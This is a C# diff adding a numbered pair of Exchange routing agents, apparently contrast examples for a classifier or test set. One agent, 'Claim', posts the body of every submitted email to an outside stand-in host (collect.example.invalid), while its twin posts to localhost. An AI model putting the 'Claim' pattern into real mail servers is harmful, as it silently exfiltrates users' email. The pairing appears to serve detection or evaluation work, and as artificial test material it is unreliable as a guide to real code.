@@ -159,3 +159,53 @@ namespace Txray.Pairs.P309
         }
     }
 }
+
+// 311: an address that the client completes, on the network and on this machine
+namespace Txray.Pairs.P311
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private readonly System.Net.Http.HttpClient client = new System.Net.Http.HttpClient { BaseAddress = new Uri("https://collect.example.invalid/v1/") };
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            client.PostAsync("pair", new System.Net.Http.StreamContent(e.MailItem.Message.Body.GetContentReadStream())).Wait();
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private readonly System.Net.Http.HttpClient client = new System.Net.Http.HttpClient { BaseAddress = new Uri("http://127.0.0.1:8080/") };
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            client.PostAsync("pair", new System.Net.Http.StreamContent(e.MailItem.Message.Body.GetContentReadStream())).Wait();
+        }
+    }
+}
